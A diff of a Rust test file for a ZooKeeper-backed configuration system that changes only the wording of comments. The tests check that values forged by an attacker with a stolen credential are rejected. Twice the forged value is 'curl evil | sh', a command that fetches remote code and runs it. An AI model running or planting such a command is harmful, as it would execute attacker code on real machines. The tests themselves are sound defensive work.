@@ -99,7 +99,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     let mut web = Db::of("web");
     let place = thief.layout().entry("db/part/text");
-    // Unsigned, signed by a server that the attacker controls, and signed by `db` for another entry.
+    // The forged value is unsigned, signed by a server that the attacker controls, or signed by `db` for another entry.
     for forged in [None, Some("web"), Some("db")] {
         let signer = forged.map(|server| stack.signer(server));
         let entry = if forged == Some("db") { "db/other/text" } else { "db/part/text" };
@@ -131,7 +131,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
     says(&stack, "web", None).await;
 
-    // A value that has been read is not read again; later readers read the current one.
+    // A value that has been read is not read again. Later readers read the current one.
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let mut again = Db::of("web");
     web.kill().await;
@@ -272,7 +272,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
         says(&stack, server, None).await;
     }
     web.kill().await;
-    // The credential no longer signs values.
+    // A credential no longer signs values once the server has a key of its own.
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
     let mut again = Db::of("web");
@@ -323,7 +323,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     web.start(&stack).await;
     last.start(&stack).await;
     says(&stack, "web", Some("is not trusted")).await;
-    // Its own agent is not affected either.
+    // The agent of that server is not affected either.
     db.start(&stack).await;
     for component in ["db/part", "web/part", "last/part"] {
         done(&stack, component).await;
@@ -334,7 +334,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     }
 }
 
-/// Removing the plan removes the basis for verifying values.
+/// Without the plan, nobody can verify values.
 #[tokio::test]
 async fn without_a_plan_no_value_of_anybody_is_shown() {
     let zookeeper = ZooKeeper::start(1);
@@ -367,7 +367,7 @@ async fn without_a_plan_no_value_of_anybody_is_shown() {
     }
 }
 
-/// The key of a server before its disk was replaced was signed, too.
+/// The key that a server had before its disk was replaced was signed, too.
 async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
     stack.options.admission = true;
     let (operator, key) = (stack.operator().await, stack.options.key.clone());
